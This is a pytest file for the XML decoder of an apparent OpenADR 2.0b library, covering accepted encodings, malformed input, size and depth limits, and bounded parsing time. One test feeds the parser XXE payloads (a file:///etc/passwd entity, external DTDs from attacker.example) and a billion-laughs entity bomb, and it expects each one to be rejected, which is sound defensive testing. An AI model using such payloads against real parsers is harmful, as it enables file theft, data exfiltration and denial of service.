"""The parser lets nothing in but a tree of bounded size, and fails only in the documented way."""

from __future__ import annotations

import contextlib
import time
from collections.abc import Callable

import pytest

from pyopenadr.errors import Malformed, SchemaMismatch, WireError
from pyopenadr.v2 import Limits, decode
from pyopenadr.v2.xml import Paths, parse, parse_opaque, path_of

OADR = "http://openadr.org/oadr-2.0b/2012/07"
EI = "http://docs.oasis-open.org/ns/energyinterop/201110"


def poll(ven_id: str = "ven1", *, prolog: str = "", inside: str = "") -> str:
    return (
        f'{prolog}<oadrPayload xmlns="{OADR}"><oadrSignedObject><oadrPoll xmlns:e="{EI}" e:schemaVersion="2.0b">'
        f"{inside}<e:venID>{ven_id}</e:venID></oadrPoll></oadrSignedObject></oadrPayload>"
    )


def declared(encoding: str) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>'


@pytest.mark.parametrize(
    "data",
    [
        poll("é").encode(),
        b"\xef\xbb\xbf" + poll("é").encode(),
        poll("é", prolog=declared("utf-8")).encode(),
        b"\xef\xbb\xbf" + poll("é", prolog=declared("UTF-8")).encode(),
        poll("é").encode("utf-16"),
        poll("é", prolog=declared("UTF-16")).encode("utf-16-le"),
        poll("é", prolog=declared("UTF-16")).encode("utf-16-be"),
        b"\xfe\xff" + poll("é", prolog=declared("utf-16")).encode("utf-16-be"),
        poll("é", prolog=declared("ISO-8859-1")).encode("latin-1"),
        poll("&#233;", prolog=declared("us-ascii")).encode("ascii"),
        poll("é", prolog="<!-- <!DOCTYPE x> -->").encode(),
        poll("<![CDATA[é]]>").encode(),
        poll("<!-- <!DOCTYPE x> -->é").encode(),
    ],
)
def test_encodings(data: bytes) -> None:
    assert decode(data).message["ven_id"] == "é"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b" \n\t ", "empty"),
        (b"\x00", "not"),
        (b"hello", "well-formed"),
        (b"{}", "well-formed"),
        (poll().encode()[:-1], "well-formed"),
        (poll().encode() + b"<x/>", "well-formed"),
        (b"\n" + poll(prolog=declared("utf-8")).encode(), "well-formed"),
        (poll(prolog=declared("UTF-7")).encode("utf-7"), "encoding utf-7"),
        (poll(prolog=declared("UTF-7")).encode(), "encoding utf-7"),
        (poll(prolog=declared("EBCDIC-CP-US")).encode(), "encoding ebcdic"),
        (poll(prolog=declared("UTF-16")).encode(), "the bytes are not"),
        (b"\xef\xbb\xbf" + poll(prolog=declared("ISO-8859-1")).encode(), "encoding iso-8859-1"),
        (poll("é").encode("latin-1"), "well-formed"),
        (poll("é").encode("utf-32"), "well-formed"),
        (b"\xff\xfe" + poll().encode("utf-16-le")[:-1], "UTF-16"),
        (b"\xff\xfe\x00\xd8" + poll().encode("utf-16-le"), "UTF-16"),
        (poll("&undefined;").encode(), "well-formed"),
        (poll("&#0;").encode(), "well-formed"),
        (poll().replace("e:venID", "f:venID").encode(), "well-formed"),
    ],
)
def test_what_is_no_document(data: bytes, reason: str) -> None:
    with pytest.raises(Malformed, match=reason):
        decode(data)


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 20))


@pytest.mark.parametrize(
    "prolog",
    [
        "<!DOCTYPE x>",
        " \n<!-- a --><?pi b?>\n<!DOCTYPE x>",
        f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>',
        f'<!DOCTYPE x [<!ATTLIST x xmlns CDATA "{OADR}">]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_no_document_type(prolog: str, encoding: str) -> None:
    with pytest.raises(Malformed, match="document type"):
        decode(poll("&a;", prolog=prolog).encode(encoding))


def test_the_line_of_a_mistake_is_told() -> None:
    with pytest.raises(Malformed) as caught:
        parse(b"<a>\n\n<b></a>")
    assert caught.value.line == 3


@pytest.mark.parametrize(
    ("limits", "reason"),
    [
        (Limits(max_bytes=100), "bytes"),
        (Limits(max_elements=3), "elements"),
        (Limits(max_attributes=0), "attributes"),
        (Limits(max_depth=3), "nested"),
    ],
)
def test_limits(limits: Limits, reason: str) -> None:
    with pytest.raises(Malformed, match=reason):
        decode(poll().encode(), limits=limits)


def test_limits_that_are_just_met() -> None:
    data = poll().encode()
    limits = Limits(max_bytes=len(data), max_elements=4, max_attributes=1, max_depth=4)
    assert decode(data, limits=limits).message["ven_id"] == "ven1"


def test_a_generous_depth_is_still_bounded() -> None:
    generous = Limits(max_depth=1_000_000)
    levels = "<x>" * 200 + "</x>" * 200
    assert decode(poll(inside=levels).encode(), limits=generous, leniency=["unknown-element"]).deviations
    levels = "<x>" * 300 + "</x>" * 300
    with pytest.raises(Malformed, match=r"depth|nested"):
        decode(poll(inside=levels).encode(), limits=generous, leniency=["unknown-element"])


def test_what_is_passed_over_has_a_bounded_depth() -> None:
    deep = "<x>" * 100 + "</x>" * 100
    with pytest.raises(Malformed, match="nested deeper"):
        decode(poll(inside=deep).encode(), leniency=["unknown-element"])
    with pytest.raises(WireError):
        decode(poll(inside="<x>" * 100_000).encode())


BIG = 300_000


@pytest.mark.parametrize(
    "make",
    [
        lambda: poll("x" * BIG * 5),
        lambda: poll(inside="<x/>" * BIG),
        lambda: poll(inside="<!---->" * BIG),
        lambda: poll(inside="<?p?>" * BIG),
        lambda: poll(prolog="<!--a-->" * BIG, inside="<!-- <!DOCTYPE -->"),
        lambda: poll(prolog="<?p a?>" * BIG + "<!DOCTYPE x>"),
        lambda: poll(inside="<x " + " ".join(f'a{n}="{n}"' for n in range(15_000)) + "/>"),
        lambda: poll(inside="<x " + " ".join(f'xmlns:a{n}="u{n}"' for n in range(5_000)) + "/>"),
        lambda: poll("&lt;" * BIG),
        lambda: poll("<![CDATA[x]]>" * BIG),
        lambda: poll("x<!-- -->" * BIG),
        lambda: poll(inside="<e:venID>x</e:venID>" * (BIG // 3)),
        lambda: poll(inside=f'<x a="{"y" * BIG * 10}"/>'),
        lambda: poll(inside=f"<{'x' * 40_000}/>"),
    ],
    ids=lambda _: "",
)
@pytest.mark.parametrize("leniency", [(), ("all",)], ids=["strict", "lenient"])
def test_large_input_takes_bounded_time(make: Callable[[], str], leniency: tuple[str, ...]) -> None:
    data = make().encode()
    started = time.process_time()
    with contextlib.suppress(WireError):
        decode(data, leniency=leniency)
    assert time.process_time() - started < 20


def test_paths() -> None:
    root = parse(f'<a xmlns="{OADR}"><b/><c/><!-- --><b><d/></b></a>'.encode())
    paths = Paths()
    assert [paths.of(element) for element in root.iter("*")] == ["a", "a/b[1]", "a/c", "a/b[2]", "a/b[2]/d"]
    assert path_of(root) == "a"


def test_opaque_text_must_be_an_element() -> None:
    for text in ("", "x", "<a>", "<!DOCTYPE a><a/>", "\ud800"):
        with pytest.raises(ValueError, match="can't be read"):
            parse_opaque(text)


def test_a_relative_namespace_has_no_canonical_form() -> None:
    with pytest.raises(WireError):
        decode(poll(inside='<x xmlns="u"/>').encode())
    with pytest.raises(SchemaMismatch, match="x is not allowed here"):
        decode(poll(inside='<x xmlns="http://other.example/"/>').encode())
